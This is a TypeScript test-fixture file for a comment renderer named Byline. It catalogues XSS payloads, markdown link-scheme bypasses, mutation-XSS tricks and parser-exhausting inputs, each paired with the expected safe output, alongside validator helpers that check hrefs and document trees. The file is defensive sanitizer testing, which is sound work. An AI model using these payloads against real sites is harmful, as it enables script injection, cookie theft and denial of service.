/*
 * Hostile comment bodies, written for Byline's tests and modelled on public catalogues of attacks:
 *
 * - OWASP's XSS Filter Evasion Cheat Sheet (script and event-handler tags, javascript: in every attribute
 *   that takes a URL, entity- and whitespace-obfuscated schemes, <base>, <meta refresh>, <style>);
 * - sanitizer bypasses published as DOMPurify and sanitize-html advisories (mutation XSS through <noscript>,
 *   <svg>/<math> namespace confusion, <style> inside foreign content, nested and split tags);
 * - markdown-parser advisories (marked, markdown-it, commonmark.js, cmark-gfm): javascript:/vbscript:/data:
 *   link targets hidden by case, entities, tabs and newlines, reference definitions and autolinks, and the
 *   inputs that made parsers quadratic or overflow their stack (cmark's test/pathological_tests.py, the
 *   cmark-gfm quadratic-inline advisory GHSA-66g8-4hjf-77xh, marked's link-regex backtracking, the
 *   unclosed-`[` walk-back in micromark-extension-gfm-autolink-literal).
 *
 * Comment bodies refuse control characters other than tab and newline before they reach the renderer, so
 * only tab and newline tricks are here. Entries named "benign: …" are ordinary comments that must come
 * through intact. Everything is at most 10,000 characters (the body limit), except one entry that says so.
 */

/**
 * What the API must do with an entry on a site that allows `CORPUS_MAX_LINKS` links: worked out by reading the
 * input against CommonMark, GFM's bare links and the design's rules (raw HTML and links to other schemes are
 * text, an image is a link to its picture, hrefs are what the URL parser makes of them), never by running the
 * renderer.
 */
export type Expected =
  | { outcome: 'invalid_request' | 'too_many_links' }
  | {
      outcome: 'stored'
      /** Every link's href in the stored document, in order: nothing else became a link. */
      links: string[]
      /** The document's text is exactly the source. */
      asTyped?: true
      /** Text the document shows (see `docText`). */
      shows?: string[]
      /** Text it must not show: a refused link's target, markup that must have been read as syntax. */
      hides?: string[]
    }

export type HostileInput = { name: string; source: string; expect: Expected }

/** The most links the expectations assume a site allows. */
export const CORPUS_MAX_LINKS = 50

const stored = (e: { links?: string[]; shows?: string[]; hides?: string[] }): Expected => ({ outcome: 'stored', links: [], ...e })
const refused = (outcome: 'invalid_request' | 'too_many_links'): Expected => ({ outcome })
/** Raw HTML, and other text the tree has no node for: shown exactly as typed, no link. */
const asTyped: Expected = { outcome: 'stored', links: [], asTyped: true }
/** A pathological input: nothing is refused, it renders (as text) with no link. */
const noLinks: Expected = stored({})
/** A link to a refused target: its label shows, never where it pointed. */
const label = (shows: string, ...hides: string[]): Expected => stored({ shows: [shows], hides })

const LIMIT = 10_000
/** `unit` repeated to fill the body limit. */
const fill = (unit: string, limit = LIMIT) => unit.repeat(Math.floor(limit / unit.length))
const lines = (n: number, line: (i: number) => string) => Array.from({ length: n }, (_, i) => line(i)).join('\n')

export const hostile: HostileInput[] = [
  // --- Raw HTML: shown as typed, never markup -------------------------------------------------------
  { name: 'script tag', source: '<script>alert(1)</script>', expect: asTyped },
  {
    name: 'script tag as its own block',
    source: '<script>\nalert(document.cookie)\n</script>\n\nafter',
    expect: stored({ shows: ['<script>\nalert(document.cookie)\n</script>', 'after'] }),
  },
  { name: 'script with src, upper case', source: '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>', expect: asTyped },
  { name: 'img onerror', source: '<img src=x onerror=alert(1)>', expect: asTyped },
  { name: 'img javascript src', source: `<IMG SRC="javascript:alert('XSS');">`, expect: asTyped },
  { name: 'img mixed-case scheme, no quotes', source: `<IMG SRC=JaVaScRiPt:alert('XSS')>`, expect: asTyped },
  {
    name: 'img decimal-entity scheme',
    source:
      '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
    expect: asTyped,
  },
  { name: 'img tab-entity inside scheme', source: `<IMG SRC="jav&#x09;ascript:alert('XSS');">`, expect: asTyped },
  { name: 'img raw tab inside scheme', source: `<IMG SRC="jav\tascript:alert('XSS');">`, expect: asTyped },
  { name: 'svg onload', source: '<svg onload=alert(1)>', expect: asTyped },
  { name: 'svg with script inside', source: '<svg><script>alert(1)</script></svg>', expect: asTyped },
  { name: 'iframe javascript src', source: '<iframe src="javascript:alert(1)"></iframe>', expect: asTyped },
  { name: 'iframe srcdoc', source: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', expect: asTyped },
  { name: 'anchor javascript href', source: '<a href="javascript:alert(1)">click me</a>', expect: asTyped },
  { name: 'body onload', source: `<body onload=alert('XSS')>`, expect: asTyped },
  { name: 'details ontoggle', source: '<details open ontoggle=alert(1)>', expect: asTyped },
  { name: 'input autofocus onfocus', source: '<input autofocus onfocus=alert(1)>', expect: asTyped },
  {
    name: 'custom element with pointer handler',
    source: '<xss onpointerover=alert(1) style=display:block>hover me</xss>',
    expect: asTyped,
  },
  { name: 'style import', source: `<style>@import 'https://xss.example/xss.css';</style>`, expect: asTyped },
  {
    name: 'style list-style-image javascript',
    source: `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
    expect: asTyped,
  },
  { name: 'inline style url javascript', source: '<div style="background:url(javascript:alert(1))">x</div>', expect: asTyped },
  { name: 'base href', source: `<base href="javascript:alert('XSS');//">`, expect: asTyped },
  {
    name: 'meta refresh to data URL',
    source: '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    expect: asTyped,
  },
  { name: 'object data javascript', source: '<object data="javascript:alert(1)"></object>', expect: asTyped },
  { name: 'embed data svg', source: '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', expect: asTyped },
  {
    name: 'form action javascript',
    source: '<form action="javascript:alert(1)"><input type=submit value=go></form>',
    expect: asTyped,
  },
  { name: 'link stylesheet javascript', source: '<link rel=stylesheet href=javascript:alert(1)>', expect: asTyped },
  { name: 'table background', source: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', expect: asTyped },
  { name: 'template with script', source: '<template><script>alert(1)</script></template>', expect: asTyped },
  { name: 'textarea breakout', source: '<textarea></textarea><script>alert(1)</script>', expect: asTyped },
  { name: 'attribute breakout', source: '"><script>alert(1)</script>', expect: asTyped },
  { name: 'nested split tags', source: '<scr<script>ipt>alert(1)</scr</script>ipt>', expect: asTyped },
  { name: 'mXSS noscript title', source: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', expect: asTyped },
  { name: 'mXSS svg style', source: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', expect: asTyped },
  { name: 'mXSS math mglyph', source: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', expect: asTyped },
  { name: 'comment hiding a tag', source: '<!--<img src="--><img src=x onerror=alert(1)//">', expect: asTyped },
  { name: 'CDATA with script', source: '<![CDATA[<script>alert(1)</script>]]>', expect: asTyped },
  { name: 'processing instruction', source: '<?xml version="1.0"?><script>alert(1)</script>', expect: asTyped },
  { name: 'html block with markdown inside', source: '<div>\n*not emphasis* [x](javascript:alert(1))\n</div>', expect: asTyped },
  {
    name: 'entity-encoded script',
    source: '&lt;script&gt;alert(1)&lt;/script&gt;',
    expect: stored({ shows: ['<script>alert(1)</script>'], hides: ['&lt;'] }),
  },
  {
    name: 'numeric-entity img',
    source: '&#60;img src=x onerror=alert(1)&#62;',
    expect: stored({ shows: ['<img src=x onerror=alert(1)>'], hides: ['&#'] }),
  },

  // --- Markdown links and images to other schemes: their label, as text -----------------------------
  { name: 'md link javascript', source: '[click](javascript:alert(1))', expect: label('click', 'javascript', 'alert') },
  {
    name: 'md link mixed-case javascript',
    source: '[click](JaVaScRiPt:alert(1))',
    expect: label('click', 'JaVaScRiPt', 'alert'),
  },
  {
    name: 'md link tab-entity in scheme',
    source: '[click](java&#x09;script:alert(1))',
    expect: label('click', 'script', 'alert'),
  },
  {
    name: 'md link newline-entity in scheme',
    source: '[click](java&#x0A;script:alert(1))',
    expect: label('click', 'script', 'alert'),
  },
  {
    name: 'md link decimal-entity first letter',
    source: '[click](&#106;avascript:alert(1))',
    expect: label('click', 'avascript', 'alert'),
  },
  {
    name: 'md link fully hex-entity scheme',
    source: '[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))',
    expect: label('click', 'alert'),
  },
  {
    name: 'md link named-entity colon',
    source: '[click](javascript&colon;alert(1))',
    expect: label('click', 'javascript', 'alert'),
  },
  // `&#58` without its `;` is no reference, and `(1&#41;)` leaves the link unclosed: all text, `&#41;` read as `)`.
  {
    name: 'md link colon entity without semicolon',
    source: '[xss](javascript&#58this;alert(1&#41;)',
    expect: stored({ shows: ['[xss](javascript&#58this;alert(1))'] }),
  },
  {
    name: 'md link percent-encoded colon',
    source: '[click](javascript%3Aalert(1))',
    expect: label('click', 'javascript', 'alert'),
  },
  {
    name: 'md link angle destination javascript',
    source: '[click](<javascript:alert(1)>)',
    expect: label('click', 'javascript', 'alert'),
  },
  {
    name: 'md link angle destination with raw tab',
    source: '[click](<java\tscript:alert(1)>)',
    expect: label('click', 'script', 'alert'),
  },
  // A destination cannot hold a line break, so this is no link at all: text, as typed.
  {
    name: 'md link raw newline in scheme',
    source: '[click](java\nscript:alert(1))',
    expect: stored({ shows: ['[click](java\nscript:alert(1))'] }),
  },
  { name: 'md link leading spaces', source: '[click](   javascript:alert(1))', expect: label('click', 'javascript', 'alert') },
  { name: 'md link with title', source: '[click](javascript:alert(1) "title")', expect: label('click', 'javascript', 'title') },
  {
    name: 'md link data html base64',
    source: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    expect: label('click', 'data:', 'base64'),
  },
  {
    name: 'md link data html percent',
    source: '[click](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)',
    expect: label('click', 'data:', 'script'),
  },
  { name: 'md link vbscript', source: '[click](vbscript:msgbox(1))', expect: label('click', 'vbscript', 'msgbox') },
  { name: 'md link file', source: '[click](file:///etc/passwd)', expect: label('click', 'file:', 'passwd') },
  // No scheme: relative, so no link.
  { name: 'md link protocol-relative', source: '[click](//evil.example/x)', expect: label('click', 'evil') },
  {
    name: 'md link relative, fragment, query',
    source: '[a](/relative/path) [b](#top) [c](?q=1) [d](evil.example)',
    expect: label('a b c d', 'relative', 'top', 'q=1', 'evil'),
  },
  // A scheme is ASCII letters: this one is none, so the target is relative.
  {
    name: 'md link fullwidth scheme',
    source: '[click](\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:alert(1))',
    expect: label('click', 'alert'),
  },
  // No ASCII colon, no scheme: both relative.
  {
    name: 'md link fullwidth colon',
    source: '[a](javascript\uFF1Aalert(1)) [b](https\uFF1A//evil.example)',
    expect: label('a b', 'alert', 'evil'),
  },
  // The first letter is Cyrillic: no scheme, relative.
  { name: 'md link cyrillic look-alike scheme', source: '[click](\u0458avascript:alert(1))', expect: label('click', 'alert') },
  {
    name: 'md link zero-width space before scheme',
    source: '[click](\u200Bjavascript:alert(1))',
    expect: label('click', 'javascript', 'alert'),
  },
  // `https:javascript:alert(1)` has no valid port, so no URL; the second carries credentials, refused.
  {
    name: 'md link https with javascript as host',
    source: '[a](https:javascript:alert(1)) [b](http://javascript:alert(1)@x.example)',
    expect: label('a b', 'javascript', 'alert'),
  },
  // The quote stays in the path, percent-encoded by the URL parser: no attribute to break out of.
  {
    name: 'md link attribute injection via quote',
    source: '[x](https://x.example/"onmouseover="alert(1))',
    expect: stored({ links: ['https://x.example/%22onmouseover=%22alert(1)'], shows: ['x'] }),
  },
  {
    name: 'md link title injection',
    source: '[x](https://x.example/ "t\\" onmouseover=alert(1) x=\\"")',
    expect: stored({ links: ['https://x.example/'], shows: ['x'], hides: ['onmouseover'] }),
  },
  // mailto: is allowed; `javascript:alert(1)` is only the address it writes to, and `<` is encoded in the query.
  {
    name: 'md link mailto carrying javascript',
    source: '[x](mailto:javascript:alert(1)) [y](mailto:a@example.org?body=<script>)',
    expect: stored({ links: ['mailto:javascript:alert(1)', 'mailto:a@example.org?body=%3Cscript%3E'], shows: ['x y'] }),
  },
  { name: 'md image javascript', source: '![img](javascript:alert(1))', expect: label('img', 'javascript', 'alert') },
  {
    name: 'md image data svg',
    source: '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    expect: label('img', 'data:', 'base64'),
  },
  // An image is a link to its picture, labelled with its alt text: the quotes are text.
  {
    name: 'md image alt injection',
    source: '![x" onerror="alert(1)](https://x.example/a.png)',
    expect: stored({ links: ['https://x.example/a.png'], shows: ['x" onerror="alert(1)'] }),
  },
  // The outer link is refused, so its label stays, and the image in it is a link to the picture.
  {
    name: 'md image in a javascript link',
    source: '[![img](https://x.example/a.png)](javascript:alert(1))',
    expect: stored({ links: ['https://x.example/a.png'], shows: ['img'], hides: ['javascript'] }),
  },
  // Links cannot contain links: only the innermost forms (and is refused); the outer brackets are text.
  {
    name: 'md nested links and schemes',
    source: '[[[x](javascript:alert(1))](https://ok.example)](javascript:alert(2))',
    expect: stored({ shows: ['[[x](https://ok.example)](javascript:alert(2))'] }),
  },
  {
    name: 'reference link to javascript',
    source: '[click][x]\n\n[x]: javascript:alert(1)',
    expect: label('click', 'javascript', 'alert'),
  },
  {
    name: 'shortcut reference, angle definition, title',
    source: '[x]\n\n[x]: <JAVASCRIPT:alert(1)> "title"',
    expect: label('x', 'JAVASCRIPT', 'title'),
  },
  {
    name: 'collapsed reference image to data',
    source: '![x][]\n\n[x]: data:text/html;base64,PHNjcmlwdD4=',
    expect: label('x', 'data:', 'base64'),
  },
  // A definition shows nothing, and a comment is never empty: what was typed, as text.
  { name: 'definition alone', source: '[x]: javascript:alert(1)', expect: asTyped },
  // An autolink's label is its target, so the text stays while the link goes.
  { name: 'autolink javascript', source: '<javascript:alert(1)>', expect: stored({ shows: ['javascript:alert(1)'] }) },
  {
    name: 'autolink upper-case javascript and vbscript',
    source: '<JAVASCRIPT:alert(1)> <vbscript:msgbox(1)>',
    expect: stored({ shows: ['JAVASCRIPT:alert(1) vbscript:msgbox(1)'] }),
  },
  // The `<` inside ends any autolink; `<script>` and `</script>` are raw HTML, so text.
  { name: 'autolink data', source: '<data:text/html,<script>alert(1)</script>>', expect: asTyped },
  { name: 'bare javascript text', source: 'javascript:alert(1) and vbscript:msgbox(1) and data:text/html,x', expect: asTyped },
  // A bare link stops at `<`, and its trailing `">` is punctuation, not path.
  {
    name: 'bare www with payload',
    source: 'www.example.com/"><script>alert(1)</script>',
    expect: stored({ links: ['http://www.example.com/'], shows: ['www.example.com/"><script>alert(1)</script>'] }),
  },
  // The bare link stops at `<`; the tag after it is text.
  {
    name: 'bare https with tag',
    source: 'https://x.example/<img src=x onerror=alert(1)>',
    expect: stored({ links: ['https://x.example/'], shows: ['https://x.example/<img src=x onerror=alert(1)>'] }),
  },
  { name: 'html href holding markdown', source: '<a href="[x](javascript:alert(1))">x</a>', expect: asTyped },
  // The label is text (no link inside a link); the href is where it really goes.
  {
    name: 'deceptive label',
    source: '[https://bank.example](https://evil.example/login)',
    expect: stored({ links: ['https://evil.example/login'], shows: ['https://bank.example'] }),
  },
  // Both targets are longer than the schema's 2,048-character href: the label and the bare URL stay text.
  {
    name: 'link target too long for the tree',
    source: `[long](https://x.example/${'a'.repeat(3000)}) https://x.example/${'b'.repeat(3000)}`,
    expect: stored({ shows: ['long', `https://x.example/${'b'.repeat(3000)}`] }),
  },

  // --- Sizes and nesting that made parsers slow or overflow -----------------------------------------
  { name: '> x 10,000 (no spaces)', source: '>'.repeat(LIMIT), expect: noLinks },
  { name: '> x 5,000 with spaces', source: fill('> '), expect: noLinks },
  {
    name: 'nested blockquote lines',
    source: lines(140, (i) => `${'>'.repeat(i + 1)} level ${i + 1}`).slice(0, LIMIT),
    expect: noLinks,
  },
  { name: 'lazy lines under a deep quote', source: `${'> '.repeat(12)}a\n${fill('b\n', LIMIT - 30)}`, expect: noLinks },
  { name: 'lazy lines after a list item and a blank line', source: `- a\n\n  b\n${fill('c\n', LIMIT - 20)}`, expect: noLinks },
  { name: 'list markers on one line x 5,000', source: fill('- '), expect: noLinks },
  { name: 'ordered markers on one line x 3,333', source: fill('1. '), expect: noLinks },
  {
    name: 'nested lists by indentation',
    source: lines(99, (i) => `${'  '.repeat(i)}- level ${i + 1}`).slice(0, LIMIT),
    expect: noLinks,
  },
  { name: 'quote and list markers interleaved', source: fill('> - '), expect: noLinks },
  { name: '* x 5,000 around a letter', source: `${'*'.repeat(4999)}a${'*'.repeat(4999)}`, expect: noLinks },
  { name: '_ x 5,000 around a letter', source: `${'_'.repeat(4999)}a${'_'.repeat(4999)}`, expect: noLinks },
  { name: '* x 10,000', source: '*'.repeat(LIMIT), expect: noLinks },
  { name: 'nested strong and emphasis', source: `${'*a **a '.repeat(700)}b${' a** a*'.repeat(700)}`, expect: noLinks },
  { name: 'emphasis closers without openers', source: fill('a_ '), expect: noLinks },
  { name: 'emphasis openers without closers', source: fill('_a '), expect: noLinks },
  { name: 'mismatched emphasis openers and closers', source: fill('*a_ '), expect: noLinks },
  { name: 'delimiters in multiples of three', source: `a**b${fill('c* ', LIMIT - 4)}`, expect: noLinks },
  { name: '[ x 10,000', source: '['.repeat(LIMIT), expect: noLinks },
  { name: 'nested brackets x 5,000', source: `${'['.repeat(4999)}a${']'.repeat(4999)}`, expect: noLinks },
  { name: 'link openers without closers', source: fill('[a'), expect: noLinks },
  { name: 'link closers without openers', source: fill('a]'), expect: noLinks },
  { name: 'link openers and emphasis closers', source: fill('[ a_'), expect: noLinks },
  { name: '[ (]( repeated', source: fill('[ (]('), expect: noLinks },
  { name: 'image openers x 5,000', source: fill('!['), expect: noLinks },
  { name: 'unclosed link destinations in <>', source: fill('[a](<b'), expect: noLinks },
  { name: 'unclosed link destinations', source: fill('[a](b'), expect: noLinks },
  { name: 'unclosed link titles', source: fill('[a](b "'), expect: noLinks },
  { name: 'one open [ then thousands of lines', source: `[${fill('a\n', LIMIT - 1)}`, expect: noLinks },
  { name: 'one open [ then thousands of words', source: `[${fill('a ', LIMIT - 1)}`, expect: noLinks },
  {
    name: 'backtick runs of growing length',
    source: lines(140, (i) => `e${'`'.repeat(i + 1)}`).replace(/\n/g, '').slice(0, LIMIT),
    expect: noLinks,
  },
  { name: 'backtick x 10,000', source: '`'.repeat(LIMIT), expect: noLinks },
  { name: 'unclosed html comments', source: `</${fill('<!--', LIMIT - 2)}`, expect: noLinks },
  { name: 'unclosed html attributes', source: fill('<a b="'), expect: noLinks },
  // Not autolinks (no `>`), and `http://a` has no dot in its host, so no bare links either.
  { name: 'unclosed autolinks', source: fill('<http://a '), expect: noLinks },
  { name: 'heading underlines x 1,666', source: fill('a\n---\n'), expect: noLinks },
  { name: 'one-dash underlines', source: fill('a\n-\n'), expect: noLinks },
  // Cut at the limit inside the definitions (no use survives). Past the pre-scan's 300 brackets the rest are
    // not definitions but lines of text, and their ~200 URLs are bare links.
  {
    name: 'many reference definitions and uses',
    source: `${lines(600, (i) => `[${i}]: https://x.example/${i}`)}\n\n${'[1] '.repeat(400)}`.slice(0, LIMIT),
    expect: refused('too_many_links'),
  },
  { name: 'backslashes x 10,000', source: '\\'.repeat(LIMIT), expect: noLinks },
  { name: 'entities x 1,666', source: fill('&#x6a;'), expect: stored({ shows: ['j'.repeat(1666)] }) },
  // An address needs a dot in its domain.
  { name: 'emails without domains', source: fill('a@'), expect: noLinks },
  // One address of ~10,000 characters: too long for an href, so text.
  { name: 'long dotted run then an at', source: `${fill('a.', LIMIT - 10)}@b.example`, expect: noLinks },
  { name: 'long lines of one letter', source: fill(`${'a'.repeat(99)}\n`), expect: noLinks },
  { name: 'one word of 10,000 letters', source: 'a'.repeat(LIMIT), expect: noLinks },
  // Only white space: a blank body.
  { name: 'blank lines x 10,000', source: '\n'.repeat(LIMIT), expect: refused('invalid_request') },
  { name: 'list items x 2,500', source: fill('- a\n'), expect: noLinks },
  { name: 'paragraphs x 3,333', source: fill('a\n\n'), expect: noLinks },
  // 400 links (past the pre-scan's brackets they are still bare URLs).
  { name: 'links filling the limit', source: fill('[a](https://x.example/1) '), expect: refused('too_many_links') },
  {
    name: '2,000 links (over the body limit: the API refuses it)',
    source: Array.from({ length: 2000 }, (_, i) => `[a](https://x.example/${i})`).join(' '),
    expect: refused('invalid_request'),
  },
  // Three bare links a line (URL, www., address), 217 lines.
  {
    name: 'bare links filling the limit',
    source: fill('https://x.example/a www.x.example a@x.example\n'),
    expect: refused('too_many_links'),
  },

  // --- Benign controls: ordinary comments, intact ---------------------------------------------------
  {
    name: 'benign: plain prose',
    source: 'Thanks for the update. When does the consultation close?\nI could not find the date.',
    expect: asTyped,
  },
  // `www.example.org.` ends before its full stop; the URL parser adds the root path.
  {
    name: 'benign: real markdown',
    source: [
      'I read the **budget** report and have _two_ questions:',
      '',
      '1. Is the `capital` line new?',
      '2. Where is [the annex](https://www.example.org/annex.pdf)?',
      '',
      '> The council will publish figures in March.',
      '',
      'Mail me at jo@example.org or see www.example.org.',
      '',
      '```',
      'total = a + b',
      '```',
    ].join('\n'),
    expect: stored({
      links: ['https://www.example.org/annex.pdf', 'mailto:jo@example.org', 'http://www.example.org/'],
      shows: [
        'I read the budget report and have two questions:',
        'Is the capital line new?',
        'Where is the annex?',
        'The council will publish figures in March.',
        'total = a + b',
      ],
      hides: ['**', '_two_', '```'],
    }),
  },
  {
    name: 'benign: maths with angle brackets',
    source: 'If a < b and b > c, then 3 <4 is not a tag and 2 * 3 * 4 = 24.',
    expect: asTyped,
  },
  {
    name: 'benign: snake_case and file_names',
    source: 'Set max_links_per_comment in site_settings.json and restart.',
    expect: asTyped,
  },
]

/*
 * What every one of them must become, checked the same way on the renderer's output, on what the API
 * returns and (in the browser) on what the widget draws.
 */

const BLOCK_TYPES = new Set(['paragraph', 'code_block', 'blockquote', 'list', 'list_item'])
const INLINE_TYPES = new Set(['text', 'break', 'emphasis', 'strong', 'code', 'link'])
const SCHEMES = new Set(['http:', 'https:', 'mailto:'])

/** A link target that is an http(s) or mailto URL as the URL parser reads it. */
export function isSafeHref(href: unknown): boolean {
  if (typeof href !== 'string' || !/^(https?:|mailto:)/i.test(href)) return false
  try {
    return SCHEMES.has(new URL(href).protocol)
  } catch {
    return false
  }
}

export type DocShape = { problems: string[]; nodes: number; depth: number; links: number }

/**
 * Walks a document tree received as data (it may come from JSON): every node a known type with only its
 * own fields, every href safe. Also counts nodes, links and the deepest nesting.
 */
export function inspectDoc(doc: unknown): DocShape {
  const shape: DocShape = { problems: [], nodes: 0, depth: 0, links: 0 }
  const root = doc as { type?: unknown; children?: unknown }
  if (root?.type !== 'doc' || !Array.isArray(root.children)) return { ...shape, problems: ['not a doc'] }
  const stack: { node: unknown; depth: number }[] = root.children.map((node) => ({ node, depth: 1 }))
  while (stack.length > 0) {
    const { node, depth } = stack.pop()!
    shape.nodes++
    shape.depth = Math.max(shape.depth, depth)
    const n = node as Record<string, unknown>
    const type = String(n?.type)
    if (!BLOCK_TYPES.has(type) && !INLINE_TYPES.has(type)) shape.problems.push(`node type ${type}`)
    const allowedKeys: Record<string, string[]> = {
      paragraph: ['type', 'children'],
      blockquote: ['type', 'children'],
      list_item: ['type', 'children'],
      emphasis: ['type', 'children'],
      strong: ['type', 'children'],
      list: ['type', 'ordered', 'children'],
      link: ['type', 'href', 'children'],
      text: ['type', 'value'],
      code: ['type', 'value'],
      code_block: ['type', 'value'],
      break: ['type'],
    }
    for (const key of Object.keys(n ?? {}))
      if (!allowedKeys[type]?.includes(key)) shape.problems.push(`${type} has field ${key}`)
    if (type === 'link') {
      shape.links++
      if (!isSafeHref(n.href)) shape.problems.push(`unsafe href ${JSON.stringify(n.href)}`)
    }
    if (Array.isArray(n?.children)) for (const child of n.children) stack.push({ node: child, depth: depth + 1 })
  }
  return shape
}

/** The characters a document shows: text, code and link labels, a line break for each break and between blocks. */
export function docText(doc: unknown): string {
  const blocks = (nodes: unknown[]): string => nodes.map((n) => node(n)).join('\n')
  const node = (n: unknown): string => {
    const x = n as { type?: unknown; value?: unknown; children?: unknown[] }
    if (typeof x.value === 'string') return x.value
    if (x.type === 'break') return '\n'
    if (!Array.isArray(x.children)) return ''
    return BLOCK_TYPES.has(String(x.type)) && x.type !== 'paragraph' ? blocks(x.children) : x.children.map(node).join('')
  }
  const children = (doc as { children?: unknown[] })?.children
  return Array.isArray(children) ? blocks(children) : ''
}

/** Every link's href in a document, in reading order. */
export function docLinks(doc: unknown): string[] {
  const x = doc as { type?: unknown; href?: unknown; children?: unknown[] }
  const own = x?.type === 'link' ? [String(x.href)] : []
  return [...own, ...(Array.isArray(x?.children) ? x.children.flatMap(docLinks) : [])]
}
